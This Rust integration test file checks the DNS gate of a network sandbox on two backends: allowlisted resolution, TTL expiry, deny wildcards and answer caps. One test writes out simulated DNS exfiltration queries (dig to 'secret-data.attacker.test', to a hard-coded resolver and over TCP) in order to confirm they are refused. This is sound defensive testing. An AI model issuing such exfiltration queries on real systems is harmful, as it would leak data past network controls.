//! The DNS gate, on both backends: sbx is the sandbox's only DNS server, answers only names the
//! policy allows, and the addresses it answers become reachable before the answer is sent, for
//! the TTL plus the grace period. Real DNS servers started by the tests, real clients (dig,
//! Python) inside the real sbx. Needs root.

mod common;

use common::{require_root, sbx_sh};

use std::net::{IpAddr, Ipv4Addr};
use std::process::Command;

use common::Dir;
use common::dns::{Behaviour, DnsServer, Zone};
use common::testnet::{PROBE, TestHost, exclusive};

/// Routed to every test host made with it: many distinct destinations (AnyIP).
const BLOCK: &str = "10.214.0.0/22";

fn block_addr(i: usize) -> Ipv4Addr {
    Ipv4Addr::new(10, 214, (i / 250) as u8, (i % 250 + 1) as u8)
}

fn policy(dir: &Dir, network: &str, dns: &DnsServer, extra_dns: &str) -> std::path::PathBuf {
    dir.write(
        "p.yaml",
        &format!(
            "version: 1\nnetwork:\n  {network}\ndns:\n  servers: [\"{}\"]\n{extra_dns}",
            dns.addr()
        ),
    )
}

/// Acceptance 1: an upstream whose answer changes on every query; each fresh address is
/// reachable the moment it is answered.
fn answers_that_change_on_every_query_are_each_reachable(backend: &str) {
    require_root();
    let _guard = exclusive();
    let host = TestHost::start_with(&["tcp:8080"], Some(BLOCK));
    let addrs: Vec<IpAddr> = (10..20).map(|i| IpAddr::V4(block_addr(i))).collect();
    let zone = Zone::new().with("rot.test", Behaviour::Rotate { addrs, ttl: 300 });
    let dns = DnsServer::start(zone);
    let dir = Dir::new();
    let policy = policy(
        &dir,
        "mode: allowlist\n  allow: [\"rot.test:8080\"]",
        &dns,
        "",
    );
    let probes = ["tcp:rot.test:8080"; 8].join(" ");
    let out = sbx_sh(backend, &policy, &format!("python3 {PROBE} {probes}"));
    let text = String::from_utf8_lossy(&out.stdout);
    assert_eq!(
        text.lines().filter(|l| l.contains(" ok ")).count(),
        8,
        "{text}\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let asked = dns
        .queries()
        .iter()
        .filter(|q| q.name == "rot.test" && q.record_type.to_string() == "A")
        .count();
    assert!(
        asked >= 9,
        "the upstream was asked {asked} times: each connect must use a fresh answer"
    );
    drop(host);
}

/// Acceptance 3: a name not allowed, asked the normal way, of a hard-coded server and over TCP:
/// refused, and the upstream never hears of it.
fn exfiltration_attempts_are_refused_and_never_reach_the_upstream(backend: &str) {
    require_root();
    let _guard = exclusive();
    let host = TestHost::start(&["tcp:8080"]);
    let zone = Zone::new().addrs("allowed.test", &[host.v4.as_str()], 300);
    let dns = DnsServer::start(zone);
    let dir = Dir::new();
    let policy = policy(
        &dir,
        "mode: allowlist\n  allow: [\"allowed.test:8080\"]",
        &dns,
        "",
    );
    let events = dir.path().join("events.jsonl");
    // Every dig names a server: the test host (a hard-coded resolver), which the sandbox must
    // not reach for DNS; without `@`, the sandbox's resolv.conf (sbx's service).
    let script = format!(
        "dig +tries=1 +time=2 secret-data.attacker.test | grep -o 'status: [A-Z]*'\n\
         dig +tries=1 +time=2 @{v4} hardcoded.attacker.test | grep -o 'status: [A-Z]*'\n\
         dig +tcp +tries=1 +time=2 @{v4} overtcp.attacker.test | grep -o 'status: [A-Z]*'\n\
         dig +short +tries=1 +time=2 @{v4} allowed.test",
        v4 = host.v4
    );
    let out = Command::new(env!("CARGO_BIN_EXE_sbx"))
        .args(["apply", "--backend", backend, "--events"])
        .arg(&events)
        .arg(&policy)
        .args(["--", "sh", "-c", &script])
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert_eq!(text.matches("status: REFUSED").count(), 3, "{text}");
    assert!(
        text.trim_end().ends_with(&host.v4),
        "the allowed name resolves: {text}"
    );
    let leaked: Vec<String> = dns
        .queries()
        .into_iter()
        .map(|q| q.name)
        .filter(|n| n.contains("attacker"))
        .collect();
    assert!(leaked.is_empty(), "the upstream saw {leaked:?}");
    let summary = String::from_utf8_lossy(&out.stderr);
    assert!(
        summary.contains("secret-data.attacker.test/dns"),
        "{summary}"
    );
    let reported = std::fs::read_to_string(&events).unwrap();
    for name in [
        "secret-data.attacker.test",
        "hardcoded.attacker.test",
        "overtcp.attacker.test",
    ] {
        assert!(
            reported.contains(&format!("\"name\":\"{name}\"")),
            "{name} not in {reported}"
        );
    }
}

/// Acceptance 4: after TTL + grace, a new connection to an address not answered again is
/// denied; answering again opens it again. For a wildcard, and for an exact name (resolved when
/// the sandbox starts: that answer expires too).
fn an_expired_answer_admits_no_new_connection(backend: &str) {
    require_root();
    let _guard = exclusive();
    let host = TestHost::start(&["tcp:8080"]);
    let zone = Zone::new().addrs("a.short.test", &[host.v4.as_str()], 1);
    let dns = DnsServer::start(zone);
    for pattern in ["*.short.test", "a.short.test"] {
        let dir = Dir::new();
        let network = format!("mode: allowlist\n  allow: [\"{pattern}:8080\"]");
        let policy = policy(&dir, &network, &dns, "  grace: 1s\n");
        let script = format!(
            "python3 {PROBE} tcp:a.short.test:8080 tcp:{v4}:8080; sleep 3; python3 {PROBE} tcp:{v4}:8080 tcp:a.short.test:8080 tcp:{v4}:8080",
            v4 = host.v4
        );
        let out = sbx_sh(backend, &policy, &script);
        let lines: Vec<String> = String::from_utf8_lossy(&out.stdout)
            .lines()
            .map(|l| l.split(' ').nth(3).unwrap_or("?").to_string())
            .collect();
        assert_eq!(
            lines,
            ["ok", "ok", "denied", "ok", "ok"],
            "{pattern}: {out:?}"
        );
    }
}

/// Deny wins for names as for addresses: an allowed name that a deny wildcard covers is refused
/// by the DNS service, and the addresses sbx resolved for it at start are denied too (on the
/// ports the deny entry names), so that connecting to them directly reaches nothing either.
/// Another allowed name on another address is untouched.
fn a_deny_wildcard_over_an_allowed_name_denies_its_addresses(backend: &str) {
    require_root();
    let _guard = exclusive();
    let denied = TestHost::start(&["tcp:8080", "tcp:8081"]);
    let other = TestHost::start(&["tcp:8080"]);
    let zone = Zone::new()
        .addrs("api.x.test", &[denied.v4.as_str()], 300)
        .addrs("ok.y.test", &[other.v4.as_str()], 300);
    let dns = DnsServer::start(zone);
    let dir = Dir::new();
    let network = "mode: allowlist\n  allow: [{host: api.x.test, ports: [8080, 8081]}, \"ok.y.test:8080\"]\n  deny: [\"*.x.test:8080\"]";
    let policy = policy(&dir, network, &dns, "");
    let probes = format!(
        "tcp:api.x.test:8080 tcp:{v4}:8080 tcp:{v4}:8081 tcp:ok.y.test:8080",
        v4 = denied.v4
    );
    let out = sbx_sh(backend, &policy, &format!("python3 {PROBE} {probes}"));
    let outcomes: Vec<String> = String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| l.split(' ').nth(3).unwrap_or("?").to_string())
        .collect();
    assert_eq!(
        outcomes,
        ["no-name", "denied", "ok", "ok"],
        "{}\n{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    drop((denied, other));
}

/// A hostile upstream answering a flood of addresses for one name: at most 64 are answered
/// (and admitted).
fn a_name_answering_too_many_addresses_is_capped(backend: &str) {
    require_root();
    let _guard = exclusive();
    let host = TestHost::start(&["tcp:8080"]);
    let many: Vec<String> = (0..100).map(|i| block_addr(i).to_string()).collect();
    let many: Vec<&str> = many.iter().map(String::as_str).collect();
    let dns = DnsServer::start(Zone::new().addrs("m.flood.test", &many, 300));
    let dir = Dir::new();
    let policy = policy(
        &dir,
        "mode: allowlist\n  allow: [\"*.flood.test:8080\"]",
        &dns,
        "",
    );
    let out = sbx_sh(
        backend,
        &policy,
        &format!("dig +short +tries=1 +time=2 @{} m.flood.test", host.v4),
    );
    let answered = String::from_utf8_lossy(&out.stdout).lines().count();
    assert_eq!(answered, 64, "{out:?}");
}

/// Acceptance 5 (its proof half): the allow entry exists before the answer is sent: a connect
/// issued the instant each answer arrives succeeds, 1,000 times in a row, each to an address
/// answered for the first time.
fn a_connect_the_instant_the_answer_arrives_succeeds_1000_times(backend: &str) {
    require_root();
    let _guard = exclusive();
    let host = TestHost::start_with(&["tcp:8080"], Some(BLOCK));
    let zone = (0..1000).fold(Zone::new(), |zone, i| {
        zone.addrs(
            &format!("n{i}.fast.test"),
            &[block_addr(i).to_string().as_str()],
            300,
        )
    });
    let dns = DnsServer::start(zone);
    let dir = Dir::new();
    let policy = policy(
        &dir,
        "mode: allowlist\n  allow: [\"*.fast.test:8080\"]",
        &dns,
        "",
    );
    let client = dir.write(
        "instant.py",
        "import socket\nok = 0\nfor i in range(1000):\n    \
         addr = socket.getaddrinfo(f'n{i}.fast.test', 8080, socket.AF_INET, socket.SOCK_STREAM)[0][4]\n    \
         s = socket.create_connection(addr, timeout=2)\n    s.close()\n    ok += 1\nprint(ok)\n",
    );
    let out = sbx_sh(backend, &policy, &format!("python3 {}", client.display()));
    assert_eq!(
        String::from_utf8_lossy(&out.stdout).trim(),
        "1000",
        "{out:?}"
    );
    drop(host);
}

crate::on_both_backends!(
    answers_that_change_on_every_query_are_each_reachable,
    exfiltration_attempts_are_refused_and_never_reach_the_upstream,
    an_expired_answer_admits_no_new_connection,
    a_name_answering_too_many_addresses_is_capped,
    a_deny_wildcard_over_an_allowed_name_denies_its_addresses,
    a_connect_the_instant_the_answer_arrives_succeeds_1000_times,
);

/// Expiry stops new connections only: a flow opened while the answer was fresh keeps working.
fn a_live_flow_outlives_its_answer(backend: &str) {
    require_root();
    let _guard = exclusive();
    let host = TestHost::start(&["udp:5353"]);
    let zone = Zone::new().addrs("a.live.test", &[host.v4.as_str()], 1);
    let dns = DnsServer::start(zone);
    let dir = Dir::new();
    let network =
        "mode: allowlist\n  allow:\n    - {host: \"*.live.test\", ports: [5353], protocol: udp}";
    let policy = policy(&dir, network, &dns, "  grace: 1s\n");
    let client = dir.write(
        "flow.py",
        "import socket, time\n\
         def ask(s):\n    s.send(b'hello')\n    return s.recv(100).startswith(b'port 5353')\n\
         addr = socket.getaddrinfo('a.live.test', 5353, socket.AF_INET, socket.SOCK_DGRAM)[0][4]\n\
         live = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); live.settimeout(2); live.connect(addr)\n\
         print('fresh', ask(live))\n\
         time.sleep(3)\n\
         print('live', ask(live))\n\
         new = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); new.settimeout(2)\n\
         try:\n    new.connect(addr); print('new', ask(new))\n\
         except OSError as e:\n    print('new denied')\n",
    );
    let out = sbx_sh(backend, &policy, &format!("python3 {}", client.display()));
    let text = String::from_utf8_lossy(&out.stdout);
    assert_eq!(text, "fresh True\nlive True\nnew denied\n", "{out:?}");
}

mod flows {
    #[test]
    fn nftables() {
        super::a_live_flow_outlives_its_answer("nftables")
    }
    #[test]
    fn ebpf() {
        super::a_live_flow_outlives_its_answer("ebpf")
    }
}
